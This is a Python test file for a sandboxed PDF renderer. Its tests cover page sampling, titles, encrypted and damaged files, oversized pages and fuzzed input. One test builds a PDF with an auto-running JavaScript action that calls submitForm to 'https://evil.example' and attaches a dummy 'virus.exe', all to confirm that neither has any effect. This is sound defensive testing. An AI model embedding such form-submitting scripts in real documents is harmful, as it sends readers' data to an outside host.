"""PDF documents: first pages and words; nothing in them acts; broken and encrypted ones say so."""

from __future__ import annotations

import io
import json
from contextlib import suppress
from typing import TYPE_CHECKING, Any

import pypdfium2
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from tests.unit.rendering.conftest import page_of

from belvedere.errors import BelvedereError, MalformedArtifact
from belvedere.model.rendering import Limits, Source
from belvedere.rendering.isolation.guard import render_isolated
from belvedere.rendering.isolation.inmate import render_here

if TYPE_CHECKING:
    from belvedere.model.rendering import Rendering

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(
    *pages: str, root: bytes = b"", more: tuple[bytes, ...] = (), trailer: bytes = b"", box: str = "595 842"
) -> bytes:
    """Write a PDF by hand; ``more`` are further objects, from the number ``4 + 2 * pages`` on."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * at) for at in range(len(pages)))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, len(pages)),
        FONT,
    ]
    for at, words in enumerate(pages):
        content = b"BT /F1 24 Tf 50 700 Td (%s) Tj ET" % words.encode("latin-1")
        objects.append(
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %s]/Contents %d 0 R/Resources<</Font<</F1 3 0 R>>>>>>"
            % (box.encode(), 5 + 2 * at)
        )
        objects.append(b"<</Length %d>>stream\n%s\nendstream" % (len(content), content))
    objects += more
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))
    return out + head + table + end


def facts_of(rendering: Rendering) -> dict[str, Any]:
    assert rendering.kind == "pdf"
    return dict(rendering.facts["pdf"])


def output(rendering: Rendering, role: str) -> bytes:
    return next(one.content for one in rendering.outputs if one.role == role)


def test_pages_words_and_title_are_shown(render) -> None:
    title = (b"<</Title(Quarterly <b>report</b>)>>",)
    rendering = render(pdf("Hello <script>", "Second page", more=title, trailer=b"/Info 8 0 R"), "run/a.pdf")
    page = page_of(rendering)
    assert facts_of(rendering)["pages"] == 2
    assert facts_of(rendering)["title"] == "Quarterly <b>report</b>"
    assert facts_of(rendering)["page_size_mm"] == [210, 297]
    assert page.count("data:image/webp") == 2
    assert "Hello &lt;script&gt;" in page
    assert "<script" not in page
    assert json.loads(output(rendering, "data"))["pages"][1]["text"] == "Second page"
    assert Image.open(io.BytesIO(output(rendering, "figure"))).width == 1100
    assert rendering.sampled is None


def test_many_pages_are_sampled_and_said(render) -> None:
    rendering = render(pdf(*[f"page {at}" for at in range(1, 31)]), "run/long.pdf")
    assert rendering.sampled is not None
    assert (rendering.sampled.shown, rendering.sampled.total, rendering.sampled.unit) == (Limits().pages, 30, "pages")
    assert "The first 8 of 30 pages" in page_of(rendering)


def test_scripts_and_attachments_have_no_effect_and_are_said(render) -> None:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>"
    root = b"/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"
    rendering = render(pdf("text", root=root, more=(script,)), "run/js.pdf")
    assert facts_of(rendering)["scripts"] == 1
    assert "JavaScript: it has no effect" in rendering.warnings[0]
    assert "evil.example" not in page_of(rendering)

    document = pypdfium2.PdfDocument(pdf("text"))
    document.new_attachment("virus.exe").set_data(b"MZ virus")
    file = io.BytesIO()
    document.save(file)
    rendering = render(file.getvalue(), "run/attached.pdf")
    assert facts_of(rendering)["attachments"] == 1
    assert all(b"MZ virus" not in one.content for one in rendering.outputs)


def test_an_encrypted_document_says_that_it_needs_a_password(render) -> None:
    lock = b"<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%s>/U<%s>>>" % (b"41" * 32, b"42" * 32)
    name = b"<00112233445566778899aabbccddeeff>"
    content = pdf("secret", more=(lock,), trailer=b"/Encrypt 6 0 R/ID[%s%s]" % (name, name))
    with pytest.raises(MalformedArtifact, match="encrypted") as found:
        render(content, "run/locked.pdf")
    assert found.value.code == "encrypted"


@pytest.mark.parametrize("content", [b"%PDF-1.7\nnothing", b"%PDF-", pdf()])
def test_what_is_no_document_is_said_plainly(render, content: bytes) -> None:
    with pytest.raises(MalformedArtifact, match=r"damaged, truncated|no pages|damaged or truncated"):
        render(content, "run/bad.pdf")


@pytest.mark.parametrize("box", ["9000000 9000000", "0 0", "1e30 5"])
def test_pages_of_absurd_size_are_refused_or_brought_down(render, box: str) -> None:
    with suppress(MalformedArtifact):
        rendering = render(pdf("x", box=box), "run/huge.pdf")
        assert max(Image.open(io.BytesIO(output(rendering, "figure"))).size) <= 1800


def test_a_cut_document_is_shown_as_far_as_it_can_be_or_refused(render) -> None:
    whole = pdf(*["words"] * 20)
    for share in (0.3, 0.6, 0.9, 0.99):
        with suppress(MalformedArtifact):
            assert "truncated" in " ".join(render(whole[: int(len(whole) * share)], "run/cut.pdf").warnings)


def test_it_is_drawn_in_the_child_that_is_shut_in(make_source) -> None:
    rendering = render_isolated(make_source(pdf("shut in"), "a.pdf"), Limits(), strictness="lenient").rendering
    assert "shut in" in page_of(rendering)


@given(st.data())
@settings(max_examples=12, deadline=None)
def test_flipped_bytes_end_in_a_rendering_or_an_explained_error(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    content = bytearray(pdf("one", "two"))
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    path = tmp_path_factory.getbasetemp() / "flipped.pdf"
    path.write_bytes(content)
    with suppress(BelvedereError):
        assert render_here(Source("b", "x.pdf", "e", "", "", len(content), path), Limits(), "pdf").outputs
